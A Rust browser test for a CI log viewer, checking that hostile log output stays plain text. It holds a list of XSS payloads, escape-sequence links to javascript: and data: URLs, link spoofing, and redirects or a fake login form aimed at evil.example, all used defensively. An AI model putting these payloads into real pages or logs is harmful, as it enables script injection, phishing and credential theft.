//! Whatever a program prints is text: in rows, in titles of groups, where a search marks it, and
//! where it is drawn over.

use serde_json::json;

use crate::chromium::{Browser, Setup, serve};
use crate::viewer::{STEP, failed};

/// Rows as an attacker would choose them. Each sets `window.owned` if it gets through.
const ATTACKS: &[&str] = &[
    "<script>window.owned=1</script>",
    "<img src=x onerror=\"window.owned=1\">",
    "<svg/onload=window.owned=1>",
    "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>",
    "<a href=\"javascript:window.owned=1\">click</a>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=data:text/css,body{display:none}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<form action=https://evil.example/><button>Log in",
    "</div></div></main><h1>Log in again</h1>",
    "<!-- ",
    "<![CDATA[",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "&#60;script&#62;",
    "\" onmouseover=\"window.owned=1",
    "' onmouseover='window.owned=1",
    "\x1b]8;;javascript:window.owned=1\x07click\x1b]8;;\x07",
    "\x1b]8;;data:text/html,<script>parent.owned=1</script>\x07click\x1b]8;;\x07",
    "\x1b]8;;https://example.org/\" onclick=\"window.owned=1\x07click\x1b]8;;\x07",
    "\x1b]8;;https://github.com@evil.example/\x07github.com\x1b]8;;\x07",
    "\x1b]8;;https://evil.example\\@github.com/\x07github.com\x1b]8;;\x07",
    "https://example.org/?q=<script>window.owned=1</script>",
    "https://example.org/\x1b[31m\"><script>window.owned=1</script>",
    "java\x1b[31mscript:window.owned=1",
    "<scr\x1b[0mipt>window.owned=1</scr\x1b[0mipt>",
    "<scr\x08\x08\x08script>window.owned=1</script>",
    "x\r<script>window.owned=1</script>",
    "\x1b[31m<script>\x1b[32mwindow.owned=1\x1b[33m</script>\x1b[0m",
    "\x1b]0;<script>window.owned=1</script>\x07",
    "\x1b]0;never ended <script>window.owned=1</script>",
    "\x1bP<script>window.owned=1</script>\x1b\\",
    "\x1b]1337;File=inline=1:PHNjcmlwdD4=\x07",
    "\x1b[8mhidden?\x1b[0m",
    "\u{202e}txt.exe\u{202c} \u{2066}x\u{2069} \u{200b}",
    "::group::<img src=x onerror=window.owned=1>",
    "::endgroup::",
    "--- <script>window.owned=1</script>",
    "section_start:1:<b>x[collapsed=true]\r\x1b[0K<img src=x onerror=window.owned=1>",
    "section_end:1:x\r\x1b[0K",
    "one\ntwo\n\x1b[2A<script>window.owned=1</script>\n<img src=x onerror=window.owned=1>",
    "\x1b[2J\x1b[H<script>window.owned=1</script>",
    "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_output_becomes_more_than_text_and_links_that_say_where_they_lead() {
    let text = ATTACKS.join("\n") + "\nthe end\n";
    let fixture = failed(&text).await;
    let message = "<img src=x onerror=window.owned=1>";
    let findings =
        json!({"first": 0, "findings": [{"line": 2, "severity": "error", "message": message}]});
    let address = serve(&fixture.state, findings).await;
    let setup = Setup {
        height: 2_000,
        ..Setup::default()
    };
    let browser = Browser::open(&setup).await;
    let check = async |what: &str| {
        let strange = browser
            .eval(
                "[...document.querySelectorAll('#log *')].filter((e) => \
                 !['DIV', 'SPAN', 'A', 'MARK', 'BUTTON'].includes(e.tagName) || \
                 [...e.attributes].some((a) => a.name.startsWith('on') || a.name === 'style' && !e.matches('.space, .layer')) \
                 ).map((e) => e.outerHTML.slice(0, 100))",
            )
            .await;
        assert_eq!(strange, json!([]), "{what}");
        let lying = browser
            .eval(
                "[...document.querySelectorAll('#log .x a:not(.cut)')].filter((a) => \
                 !['http:', 'https:'].includes(a.protocol) || a.title !== a.host || !a.rel.includes('noopener')) \
                 .map((a) => a.outerHTML)",
            )
            .await;
        assert_eq!(lying, json!([]), "{what}");
        let owned = browser.eval("[window.owned ?? null, document.querySelectorAll('h1').length, document.baseURI.startsWith('http://127')]").await;
        assert_eq!(owned, json!([null, 1, true]), "{what}");
    };
    browser
        .client
        .goto(&format!("http://{address}{STEP}"))
        .await
        .unwrap();
    browser
        .until(
            "it is there",
            "document.querySelector('#log .r.bad') !== null",
        )
        .await;
    check("as it opens").await;
    browser.eval("document.getElementById('log').focus()").await;
    browser.keys("O").await;
    check("all open").await;
    browser.keys("u").await;
    browser
        .until(
            "as printed",
            "view.raw && !document.querySelector('.r.wait')",
        )
        .await;
    check("as printed").await;
    browser.keys("/").await;
    browser.keys("script|onerror|[<>&]").await;
    browser
        .until(
            "hits",
            "search.whole && document.querySelectorAll('#log mark').length > 20",
        )
        .await;
    check("searched").await;
    let marked = browser
        .eval("[...document.querySelectorAll('#log mark')].every((m) => /script|onerror|[<>&]/i.test(m.textContent) || m.textContent.length < 6)")
        .await;
    assert_eq!(marked, json!(true));
    browser.key(fantoccini::key::Key::Escape).await;
    browser.keys("x").await;
    browser.until("filtered", "view.filter !== null").await;
    check("filtered").await;
    browser.close().await;
}
